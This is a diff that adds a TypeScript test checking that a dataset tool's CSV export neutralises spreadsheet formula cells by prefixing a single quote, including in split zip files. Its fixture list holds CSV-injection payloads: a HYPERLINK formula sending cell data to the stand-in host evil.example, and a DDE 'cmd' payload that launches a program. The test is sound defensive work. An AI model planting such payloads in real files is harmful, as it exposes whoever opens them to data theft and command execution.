@@ -415,6 +415,23 @@ describe("export: files open in DuckDB", () => {
     expect(jsonl.bytes[0]).toBe(0x7b);
   });
 
+  test("CSV: formula-like cells read back with a leading quote by default, in every split file; as they are when asked", async () => {
+    const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1+9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1"];
+    const { datasetId } = await dataset([...FORMULAS.map((f, i) => ({ values: { k: `f${i}`, v: f } })), { values: { k: "n", v: "-1.5" } }, { values: { k: "t", v: "a=b" } }]);
+    // RFC 4180 named: with this many ' in the cells DuckDB's sniffer guesses another escape.
+    const read = async (bytes: Uint8Array) =>
+      Object.fromEntries((await duck<{ k: string; v: string }>("select k, v from read_csv($file, header = true, delim = ',', quote = '\"', escape = '\"', all_varchar = true)", bytes, "csv")).map((r) => [r.k, r.v]));
+    const expected = (keep: boolean) => ({ ...Object.fromEntries(FORMULAS.map((f, i) => [`f${i}`, keep ? f : `'${f}`])), n: "-1.5", t: "a=b" });
+    expect(await read((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"] })).bytes)).toEqual(expected(false));
+    expect(await read((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"], keepFormulas: true })).bytes)).toEqual(expected(true));
+    const zipped = unzipSync((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"], card: true, split: { train: 50, validation: 50, test: 0, seed: 1 } })).bytes);
+    const splitFiles = Object.keys(zipped).filter((n) => n.endsWith(".csv"));
+    expect(splitFiles.length).toBe(2);
+    const all = Object.assign({}, ...(await Promise.all(splitFiles.map((n) => read(zipped[n])))));
+    expect(all).toEqual(expected(false));
+    expect(strFromU8(zipped["README.md"])).toContain("start with an added single quote");
+  });
+
   test("JSONL, OpenAI chat, Alpaca and ShareGPT: one inferred shape for every line", async () => {
     const { datasetId } = await dataset(TRICKY);
     const schema = async (bytes: Uint8Array) =>
